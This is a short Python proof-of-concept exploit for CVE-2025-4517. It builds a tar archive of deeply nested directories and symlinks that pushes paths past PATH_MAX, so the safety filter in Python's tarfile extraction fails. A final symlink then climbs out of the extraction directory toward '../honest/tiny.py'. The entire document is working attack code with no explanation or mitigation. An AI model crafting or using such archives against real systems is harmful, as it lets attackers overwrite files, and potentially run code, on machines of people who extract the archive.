"""CVE-2025-4517: beyond PATH_MAX, realpath gives up and the filter with it."""

import tarfile

STEPS = "abcdefghijklmnop"


def make(archive):
    with tarfile.open(archive, "w:gz") as tar:
        path, folder = "", "d" * 60
        for step in STEPS:
            entry = tarfile.TarInfo(f"{path}{folder}")
            entry.type = tarfile.DIRTYPE
            tar.addfile(entry)
            entry = tarfile.TarInfo(f"{path}{step}")
            entry.type, entry.linkname = tarfile.SYMTYPE, folder
            tar.addfile(entry)
            path += f"{folder}/"
        entry = tarfile.TarInfo("/".join(STEPS) + "/tiny.py")
        entry.type, entry.linkname = tarfile.SYMTYPE, "../" * len(STEPS) + "../honest/tiny.py"
        tar.addfile(entry)
